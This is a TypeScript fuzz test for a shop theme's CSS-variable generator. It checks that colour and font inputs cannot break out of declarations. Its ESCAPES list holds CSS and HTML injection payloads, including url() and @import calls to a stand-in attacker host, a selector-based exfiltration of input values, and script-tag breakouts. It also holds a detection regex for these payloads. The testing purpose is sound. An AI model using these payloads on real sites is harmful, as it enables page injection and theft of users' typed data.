import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { Theme } from '../../src/theme/fields.ts'
import { FIELD_NAMES, FIELDS } from '../../src/theme/fields.ts'
import { fontId } from '../../src/theme/fonts.ts'
import { cssText, cssVariables } from '../../src/theme/css-variables.ts'
import { resolveTheme } from '../../src/theme/resolve-theme.ts'
import { VOLUMES } from '../volumes.ts'

const RUNS = VOLUMES.styles
const defaults = resolveTheme({}).theme
const styled = FIELD_NAMES.filter((name) => FIELDS[name].lane === 'css')

const DEFAULT = cssText(cssVariables(defaults))

/** Values that escape from a declaration, load from another host, or read a shopper's input. */
const ESCAPES = [
  'url(//evil.example.test/a)',
  '@import "//evil.example.test"',
  '}',
  '};body{display:none}',
  ';color:red',
  '</style><script>alert(1)</script>',
  '<!--',
  '-->',
  '/*',
  '*/',
  '\\7d ',
  '\\000075rl(//x)',
  '\n',
  '\u0000',
  '\u2028',
  'expression(alert(1))',
  'image-set("//evil.example.test" 1x)',
  'src("//evil.example.test")',
  'var(--x)',
  'env(x)',
  'attr(value)',
  'calc(1px)',
  '!important',
  '-moz-binding:url(x)',
  'behavior:url(x)',
  '"',
  "'",
  '`',
  '{',
  '(',
  ')',
  "input[value^='a']{background:url(//evil.example.test/?a)}",
  '@font-face{font-family:x;src:url(//evil.example.test)}',
  ':root{--color-main:url(//evil.example.test)}',
  'javascript:alert(1)',
  'inherit',
  'initial',
  'currentColor',
  'transparent',
  'red',
  'rgb(1,2,3)',
  '#fff',
  '#ffff',
  '#12345g',
  '#FFFFFFFF',
]
const hex = fc.integer({ min: 0, max: 0xffffff }).map((number) => `#${number.toString(16).padStart(6, '0')}`)
const shouted = hex.map((colour) => colour.toUpperCase())
const escape = fc.constantFrom(...ESCAPES)
const written = fc.oneof(
  hex,
  shouted,
  escape,
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc
    .tuple(fc.oneof(hex, fc.constantFrom('Inter', 'be-vietnam-pro', 'soft', 'none')), escape)
    .map((parts) => parts.join('')),
  fc.tuple(escape, hex, escape).map((parts) => parts.join('')),
  fc.constantFrom<unknown>('Inter', '"Nunito", serif', 'Comic Sans MS', 'sharp', 'deep', 5, null, true, ['#ffffff'], {
    toString: 1,
  }),
)

test('a fuzzed colour or font is unchanged or the default; the style text contains only declarations', () => {
  let exact = 0
  fc.assert(
    fc.property(fc.constantFrom(...styled), written, (name, input) => {
      const { theme } = resolveTheme({ [name]: input })
      const expected = validValue(name, input) ?? defaults[name]
      if (theme[name] !== expected) throw new Error(`${name} is ${JSON.stringify(theme[name])}`)
      const text = cssText(cssVariables(theme))
      if (!DECLARATIONS.test(text) || LEAVES.test(text)) throw new Error(text)
      if (
        text !==
        (expected === defaults[name] ? DEFAULT : cssText(cssVariables({ ...defaults, [name]: expected } as Theme)))
      )
        throw new Error(`${name} changes more than its own`)
      if (expected !== defaults[name]) exact += 1
    }),
    { numRuns: RUNS },
  )
  process.stdout.write(`styles: ${RUNS} fuzzed values, ${exact} unchanged, the others replaced by the default\n`)
  expect(exact).toBeGreaterThan(RUNS / 20)
})

test('css variables reject unresolved values on their own', () => {
  for (const escaping of ESCAPES) {
    const text = cssText({ ...cssVariables(defaults), '--color-main': `#fff${escaping}`, [`--x${escaping}`]: '#fff' })
    expect([escaping, DECLARATIONS.test(text), LEAVES.test(text)]).toEqual([escaping, true, false])
  }
})

/** The valid value, determined independently of the resolver: six hexadecimal digits, a supported font, an allowed word. */
function validValue(name: (typeof styled)[number], input: unknown): unknown {
  if (typeof input !== 'string') return undefined
  // oxlint-disable-next-line no-control-regex -- removes control characters
  const text = input.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/g, '').trim()
  if (name === 'font_family') return fontId(text) ?? undefined
  if (name === 'corner_style' || name === 'shadow_style' || name === 'page_ground')
    return ['sharp', 'soft', 'round', 'none', 'deep', 'white', 'tinted', 'dark'].find(
      (word) => word === text.toLowerCase() && FIELDS[name].schema.safeParse(word).success,
    )
  return /^#[0-9a-f]{6}$/i.test(text) ? text.toLowerCase() : undefined
}

const DECLARATIONS = /^:root\{(?:--[a-z0-9-]+:[#\w ,.()%'/-]+;?)+\}$/
const LEAVES = /url\(|@import|expression|javascript|\/\*|<|\\|;[^-]|\{.*\{/i
